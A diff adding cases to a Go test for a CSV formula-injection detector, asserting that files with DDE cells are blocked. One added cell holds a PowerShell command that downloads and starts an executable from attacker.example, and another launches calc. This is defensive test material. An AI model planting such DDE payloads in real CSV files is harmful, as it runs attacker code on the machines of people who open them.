@@ -31,6 +31,13 @@ func TestFormulaInjection(t *testing.T) {
 	if !csvFormulaFile("products.csv", "text/csv", csv) {
 		t.Error("CSV file with a HYPERLINK cell passed")
 	}
+	dde := "sku,name,description,price\r\nSF-1002,\"=cmd|'/C powershell -c \"\"iwr http://attacker.example/x.exe; start x.exe\"\"'!A0\",Hoodie,49.00\r\n"
+	if !csvFormulaFile("inventory.csv", "text/csv", dde) {
+		t.Error("CSV file with a DDE cell holding the separator of another dialect passed")
+	}
+	if !csvFormulaFile("p.csv", "text/csv", "sku;name;price\r\nSF-4001;=cmd|'/C calc'!'A0';5\r\n") {
+		t.Error("semicolon CSV file with a DDE cell passed")
+	}
 	if csvFormulaFile("products.csv", "text/csv", "sku,name,price\r\nSF-1,Mug,-1.00\r\nSF-2,+Plus size,=5\r\n") {
 		t.Error("CSV file with signs and a number blocked")
 	}
